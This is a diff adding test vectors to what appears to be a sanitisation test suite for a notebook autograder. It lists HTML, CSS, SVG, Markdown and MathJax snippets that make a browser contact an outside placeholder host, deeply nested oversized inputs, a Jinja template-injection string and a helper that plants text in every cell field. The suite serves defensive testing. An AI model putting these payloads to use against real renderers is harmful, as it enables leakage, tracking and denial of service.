@@ -235,3 +235,85 @@ VECTORS = [
     ),
     Vector("template", markdown("{{ cycler.__init__.__globals__.os.getcwd() }} {{ nonce() }}")),
 ]
+
+
+# What asks another host, and what is too much -----------------------------------------------------
+
+_HOST = "https://elsewhere.invalid"
+#: HTML and Markdown that let a browser ask another host, or take it there.
+ASKING = {
+    "css-import": f"<style>@import '{_HOST}/a.css';</style>",
+    "css-selector": "<style>[value^=a]{background:url(HOST/a)}</style><input value=abc>",
+    "css-of-an-element": '<p style="background:url(HOST/b)">x</p>',
+    "css-list": '<ul style="list-style-image:url(HOST/c)"><li>x</ul>',
+    "css-escaped": r'<p style="background:u\72l(HOST/d)">x</p>',
+    "css-image-set": "<p style=\"background:image-set('HOST/e' 1x)\">x</p>",
+    "css-font": "<style>@font-face{font-family:x;src:url(HOST/f)}b{font-family:x}</style><b>x</b>",
+    "image": "<img src=HOST/x.png>",
+    "image-set": "<img srcset='HOST/x.png 1x'>",
+    "picture": "<picture><source srcset=HOST/x.png><img src=x></picture>",
+    "poster": "<video poster=HOST/x.png src=HOST/x.mp4 autoplay></video>",
+    "sound": "<audio src=HOST/x.mp3 autoplay></audio>",
+    "frame": "<iframe src=HOST/></iframe>",
+    "object": "<object data=HOST/x.svg></object><embed src=HOST/x.svg>",
+    "prefetch": "<link rel=prefetch href=HOST/><link rel=preload as=image href=HOST/x.png>",
+    "connect": "<link rel=dns-prefetch href=HOST/><link rel=preconnect href=HOST/>",
+    "style-sheet": "<link rel=stylesheet href=HOST/x.css>",
+    "icon": "<link rel=icon href=HOST/x.ico>",
+    "background": "<table background=HOST/x.png><tr><td>x</table>",
+    "input": "<input type=image src=HOST/x.png>",
+    "refresh": '<meta http-equiv=refresh content="0;url=HOST/">',
+    "base": "<base href=HOST/><img src=x.png>",
+    "svg-image": "<svg><image href=HOST/x.png /><image xlink:href=HOST/x.png /></svg>",
+    "svg-use": "<svg><use href=HOST/x.svg#x /></svg>",
+    "svg-style": "<svg><style>rect{fill:url(HOST/x)}</style><rect filter=url(HOST/x#y) /></svg>",
+    "svg-feimage": "<svg><filter id=a><feImage href=HOST/x.png /></filter></svg>",
+    "markdown-image": "![x](HOST/x.png)",
+    "markdown-reference": "![x][there]\n\n[there]: HOST/x.png",
+    "mathjax-style": r"$\require{html}\style{background:url(HOST/x)}{x}\href{HOST}{y}$",
+    "mathjax-macro": r"$\def\x{\style{background:url(HOST/x)}{x}}\x$ $$\unicode[HOST/x]{65}$$",
+    "mathjax-data": r"$\data{onload=fetch('HOST')}{x}\includegraphics{HOST/x.png}$",
+}
+ASKING = {name: html.replace("HOST", _HOST) for name, html in ASKING.items()}
+#: More than anybody reads.
+MUCH = {
+    "deep": "<div>" * 30_000,
+    "deep-in-a-table": "<table><tr><td>" * 3_000,
+    "deep-in-svg": "<svg>" + "<g>" * 30_000,
+    "deep-quotes": ">" * 5_000,
+    "deep-list": "- " * 4_000,
+    "deep-formula": "$" + "\\frac{" * 400 + "$",
+    "many": "<b>x</b> " * 50_000,
+    "long": "x" * 500_000,
+}
+
+
+def everywhere(cells: list[dict], text: str) -> None:
+    """Put a text wherever a submission's text can stand in these graded cells, in place."""
+    error = {"output_type": "error", "ename": text, "evalue": text, "traceback": [text, text]}
+    both = {"text/html": text, "text/plain": text}
+    picture = {"output_type": "display_data", "metadata": {"autograder-comparison": True}}
+    outputs = [
+        *({"output_type": "stream", "name": name, "text": text} for name in ("stdout", "stderr")),
+        *(shown({text: text}, **{kind: text}) for kind in ("text_html", "text_markdown")),
+        *(shown({text: text}, **{kind: text}) for kind in ("text_latex", "image_svg+xml")),
+        *(shown(**{kind: text}) for kind in ("image_png", "text_plain", f"text_{text}")),
+        picture | {"data": both},
+        error,
+    ]
+    title, first, test = cells[:3]
+    title["source"] = f"# Two functions {text}\n\n{text}"
+    title["metadata"] = {text: text, "tags": [text]}
+    for cell in (first, test):
+        cell["outputs"] = outputs
+        cell["metadata"] = {text: text, "tags": [text], **cell["metadata"]}
+    first["source"] = text
+    loose = {"cell_type": "code", "metadata": {}, "execution_count": 1, "outputs": outputs}
+    cells[1:1] = [
+        {"cell_type": "markdown", "metadata": {}, "source": text},
+        {"cell_type": "raw", "metadata": {"format": text}, "source": text},
+        loose | {"source": text},
+    ]
+    cells += [loose | {"source": text}]
+    for number, cell in enumerate(cells):
+        cell["id"] = f"c{number}"
